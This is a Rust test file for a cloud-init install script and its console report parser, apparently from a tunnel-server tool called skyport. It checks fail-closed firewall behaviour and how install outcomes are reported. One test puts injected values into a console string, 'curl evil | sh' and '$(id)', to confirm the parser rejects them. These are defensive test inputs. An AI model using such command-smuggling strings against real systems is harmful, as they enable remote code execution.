//! The install script run as cloud-init runs it, with commands stubbed: a firewall that does not
//! load keeps the server from starting, and every outcome is reported where the operator reads it.

use super::*;

/// The user data's commands run as cloud-init runs `runcmd` (each line on its own, a failing one
/// does not stop the next), with `nft` failing: nothing is downloaded and no unit is enabled.
#[cfg(unix)]
#[test]
fn a_firewall_that_does_not_load_keeps_the_tunnel_server_from_starting() {
    use std::os::unix::fs::PermissionsExt;
    let dir = std::env::temp_dir().join(format!("skyport-failclosed-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let log = dir.join("calls");
    let stub = |name: &str, body: &str| {
        let path = dir.join(name);
        std::fs::write(&path, format!("#!/bin/sh\necho \"{name} $*\" >> '{}'\n{body}\n", log.display())).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    stub("nft", "exit 1");
    stub("systemctl", "exit 0");
    // Fails too, so that even a script that went on would stop before touching the machine.
    stub("curl", "exit 22");
    stub("uname", "echo x86_64");
    stub("chown", "exit 0");
    let doc = parse(&render_cloud_config(&sample(), &artifacts()).unwrap());
    let path = format!("{}:/usr/bin:/bin", dir.display());
    for argv in doc["runcmd"].as_array().unwrap() {
        let argv: Vec<&str> = argv.as_array().unwrap().iter().map(|a| a.as_str().unwrap()).collect();
        let program = if argv[0].contains('/') { argv[0].to_string() } else { dir.join(argv[0]).display().to_string() };
        let program = if std::path::Path::new(&program).exists() { program } else { argv[0].to_string() };
        let _ = std::process::Command::new(program).args(&argv[1..]).env("PATH", &path).status().unwrap();
    }
    let calls = std::fs::read_to_string(&log).unwrap_or_default();
    std::fs::remove_dir_all(&dir).unwrap();
    assert!(calls.contains("nft -f"), "{calls}");
    assert!(!calls.contains("curl"), "downloaded with no firewall: {calls}");
    let installing = [UNIT_NAME, FIREWALL_UNIT_NAME, FIREWALL_PATH_NAME];
    assert!(!installing.iter().any(|n| calls.contains(n)), "{calls}");
}

#[test]
fn every_outcome_the_install_script_reports_is_one_the_operator_reads() {
    let script = render_install(&artifacts(), 2333).unwrap();
    let mut said: Vec<String> = script
        .match_indices("say ")
        .filter_map(|(i, _)| {
            let quoted = &script[i + 4..];
            let quote = quoted.chars().next().filter(|q| *q == '\'' || *q == '"')?;
            Some(quoted[1..].split(quote).next()?.to_string())
        })
        .collect();
    said.push("started".into());
    let steps: Vec<&str> = script.lines().filter_map(|l| l.strip_prefix("step=")).collect();
    assert_eq!(steps, ["firewall", "install", "service"]);
    let mut reports = Vec::new();
    for words in said {
        for step in &steps {
            let line = words.replace("$arch", "riscv64").replace("$step", step);
            let report = InstallReport::find(&format!("[  42.1] cloud-init[812]: {INSTALL_REPORT} {line}\r\n"));
            reports.push(report.unwrap_or_else(|| panic!("{line:?} is not read back")));
        }
    }
    for want in [
        InstallReport::Started,
        InstallReport::ArtifactRefused("digest-mismatch".into()),
        InstallReport::ArtifactRefused("download-failed".into()),
        InstallReport::ArtifactRefused("architecture riscv64".into()),
        InstallReport::NotStarted("firewall".into()),
        InstallReport::NotStarted("install".into()),
        InstallReport::NotStarted("service".into()),
    ] {
        assert!(reports.contains(&want), "{want:?} is never reported: {reports:?}");
    }
    // Each refusal ends the script before anything is installed; a started server is checked.
    let refused = script.find("say 'refused digest-mismatch'").unwrap();
    assert!(script[refused..].starts_with("say 'refused digest-mismatch'\n  exit 1\n"));
    let active = script.find(&format!("systemctl is-active --quiet {UNIT_NAME}")).unwrap();
    assert!(active < script.find("say started").unwrap());
}

#[test]
fn only_the_last_well_formed_report_on_a_console_is_read() {
    let console = format!(
        "Linux version 6.1\n{INSTALL_REPORT} not-started service\nlogin: \n{INSTALL_REPORT} started\n\
         {INSTALL_REPORT} refused digest-mismatch; curl evil | sh\n{INSTALL_REPORT} refused architecture x86_64$(id)\n"
    );
    assert_eq!(InstallReport::find(&console), Some(InstallReport::Started), "malformed lines are skipped");
    assert_eq!(InstallReport::find("Linux version 2.6.16-xenU\nBIOS-provided physical RAM map:\n"), None);
    assert_eq!(InstallReport::find(""), None);
}

#[test]
fn the_install_script_reports_why_it_stopped() {
    use std::os::unix::fs::PermissionsExt;
    let run = |stubs: &[(&str, &str)]| {
        let dir = std::env::temp_dir().join(format!("skyport-report-{}-{}", std::process::id(), rand::random::<u32>()));
        std::fs::create_dir_all(&dir).unwrap();
        let served = dir.join("served");
        let record = format!("echo \"$@\" > '{}'", served.display());
        // Nothing on this machine is touched: each step the script may reach is a stub.
        let defaults = [("nft", "exit 0"), ("uname", "echo x86_64"), ("curl", "exit 22"), ("rm", "exit 0")];
        let defaults = defaults.into_iter().chain([("systemd-run", record.as_str()), ("python3", "exit 0")]);
        for (name, body) in
            defaults.collect::<Vec<_>>().iter().filter(|(n, _)| !stubs.iter().any(|(s, _)| s == n)).chain(stubs)
        {
            std::fs::write(dir.join(name), format!("#!/bin/sh\n{body}\n")).unwrap();
            std::fs::set_permissions(dir.join(name), std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        let out = std::process::Command::new("sh")
            .args(["-c", &render_install(&artifacts(), 2333).unwrap()])
            .env("PATH", format!("{}:/usr/bin:/bin", dir.display()))
            .output()
            .unwrap();
        let served = std::fs::read_to_string(&served).ok();
        std::fs::remove_dir_all(&dir).unwrap();
        assert!(!out.status.success());
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(stderr.matches(INSTALL_REPORT).count(), 1, "one report: {stderr}");
        (InstallReport::find(&stderr), served)
    };
    let (report, served) = run(&[("nft", "exit 1")]);
    assert_eq!(report, Some(InstallReport::NotStarted("firewall".into())));
    assert_eq!(served, None, "only a refusal is served: a server that may yet start keeps its port");
    let (report, served) = run(&[("uname", "echo riscv64")]);
    assert_eq!(report, Some(InstallReport::ArtifactRefused("architecture riscv64".into())));
    let served = served.expect("a refusal is served on the control port");
    assert!(served.contains("--unit=skyport-install-report python3 -c"), "{served}");
    assert!(served.trim_end().ends_with(&format!("{INSTALL_REPORT} refused architecture riscv64 2333")), "{served}");
    assert_eq!(run(&[]).0, Some(InstallReport::ArtifactRefused("download-failed".into())));
}

/// The report server the install script starts after a refusal, run as the VM runs it: whoever
/// connects to the port reads the report line, again and again.
#[test]
fn a_refusal_is_read_back_from_the_report_server() {
    use std::io::Read;
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let script = render_install(&artifacts(), port).unwrap();
    let server = script.split("python3 -c '").nth(1).unwrap().split('\'').next().unwrap().to_string();
    let line = format!("{INSTALL_REPORT} refused digest-mismatch");
    let mut child =
        std::process::Command::new("python3").args(["-c", &server, &line, &port.to_string()]).spawn().unwrap();
    let read = || -> Option<String> {
        let mut conn = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
        let mut text = String::new();
        conn.read_to_string(&mut text).ok()?;
        Some(text)
    };
    let mut got = None;
    for _ in 0..100 {
        got = read();
        if got.is_some() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let second = read();
    child.kill().unwrap();
    let _ = child.wait();
    let got = got.expect("the report server answers");
    assert_eq!(InstallReport::find(&got), Some(InstallReport::ArtifactRefused("digest-mismatch".into())), "{got:?}");
    assert_eq!(second, Some(got), "every connection gets it");
}
